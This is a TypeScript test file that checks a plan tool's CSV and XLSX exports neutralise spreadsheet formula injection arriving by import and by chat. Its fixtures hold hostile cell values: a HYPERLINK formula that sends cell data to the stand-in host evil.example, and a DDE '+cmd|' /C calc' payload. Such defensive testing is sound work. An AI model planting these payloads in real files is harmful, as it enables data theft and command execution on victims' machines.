import fs from 'node:fs';
import { cliOverTestStorage } from '../support/cli';
import os from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { ChatService } from '../../src/services/chat/chat-service';

/**
 * Formula injection end to end: text that arrives by import and by chat comes
 * out of the CSV export as text (behind a quote), and out of the XLSX export
 * as plain string cells.
 */
const { storage, cli } = cliOverTestStorage('inj');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'inj-'));
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Report")';

beforeAll(async () => {
  const file = path.join(tmp, 'plan.csv');
  fs.writeFileSync(
    file,
    'ref,theme,action,owner,agency,measure\n' +
      `INJ-1,"${'@SUM(1+1)'}","${HYPERLINK.replace(/"/g, '""')}",alexw@example.com,"+cmd|' /C calc'!A0","-2+3"\n` +
      `INJ-2,Plain,"\t=1+1",alexw@example.com,Council,\n`,
  );
  const imported = await cli('import', file, '--plan', 'inj', '--baseline', '2026-01-01');
  expect(imported.code).toBe(0);
  const chat = new ChatService(storage, 'Europe/London');
  const replies = await chat.handle({
    text: 'note INJ-2 +HYPERLINK("http://evil.example","click")',
    conversation: { id: 'personal-alexw', kind: 'personal' },
    user: { email: 'alexw@example.com', id: 'user-id-0', name: 'Alex Wilber' },
    now: new Date(),
  });
  expect(replies.length).toBeGreaterThan(0);
  expect((await storage.actions.get('inj', 'INJ-2'))!.value.latestUpdate?.text).toBe(
    '+HYPERLINK("http://evil.example","click")',
  );
});

test('the CSV export neutralises formula-like text from imports and from chat', async () => {
  const result = await cli('export', '--plan', 'inj', '--format', 'csv');
  expect(result.code).toBe(0);
  const [header, inj1, inj2]: string[][] = parse(result.out.slice(1));
  const cell = (row: string[], name: string) => row[header.indexOf(name)];
  expect(cell(inj1, 'Action')).toBe(`'${HYPERLINK}`);
  expect(cell(inj1, 'Theme')).toBe("'@SUM(1+1)");
  expect(cell(inj1, 'Agency')).toBe("'+cmd|' /C calc'!A0");
  expect(cell(inj1, 'Measure')).toBe("'-2+3");
  // The import trims the tab away, which leaves a formula behind it.
  expect(cell(inj2, 'Action')).toBe("'=1+1");
  expect(cell(inj2, 'Latest update')).toMatch(/^'\+HYPERLINK\("http:\/\/evil\.example","click"\) \(/);
  for (const row of [header, inj1, inj2]) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
});

test('the XLSX export holds the same text as strings, with no formula anywhere', async () => {
  const out = path.join(tmp, 'plan.xlsx');
  expect((await cli('export', '--plan', 'inj', '--format', 'xlsx', '--out', out)).code).toBe(0);
  const zip = await JSZip.loadAsync(fs.readFileSync(out));
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
  expect(sheet).not.toMatch(/<f[\s>]/);
  expect(strings).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Report&quot;)');
  expect(strings).toContain('+HYPERLINK(&quot;http://evil.example&quot;,&quot;click&quot;)');
});
